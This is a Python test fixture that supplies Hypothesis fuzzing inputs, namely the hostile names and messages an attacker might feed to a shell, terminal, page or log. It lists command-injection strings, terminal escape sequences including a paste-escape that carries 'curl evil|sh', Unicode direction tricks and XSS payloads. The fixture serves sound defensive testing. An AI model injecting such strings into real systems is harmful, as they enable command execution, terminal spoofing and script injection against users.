"""Names and messages as an attacker writes them: to a shell, a terminal, a page or a log."""

from __future__ import annotations

from hypothesis import strategies as st

#: Each of these did harm somewhere before it was escaped, or is what an attack of its kind looks like.
HOSTILE_NAMES = (
    "1.2.3.4; touch owned #",
    "$(touch owned)",
    "`touch owned`",
    'it\'s "quoted" \\ twice',
    "--force",
    "-",
    "",
    " ",
    "*",
    "a\0b",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b[201~curl evil|sh\n",
    "two\nlines",
    "kmirror: done\r",
    "next\x85line",
    "line\u2028paragraph\u2029",
    "\x9b2J",
    "\u202edrow\u202c",
    "\u2066hidden\u2069",
    "zero\u200bwidth\ufeff",
    "tag\U000e0041",
    "<script>alert(1)</script>",
    "</script><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "[bold red]markup[/]",
    "!history",
    "~root",
    "a,b",
    "\x7f",
    "\t",
    "\ud800",
    "n" * 30_000,
)
#: Text of these, of their parts, and of any characters.
hostile_text = st.one_of(
    st.sampled_from(HOSTILE_NAMES),
    st.text(),
    st.text("\x00\x07\x1b\n\r\t\x7f\x85\x9b\u200e\u2028\u202e'\"\\`$;#|&<>()*?[]{}!~ -ab"),
)
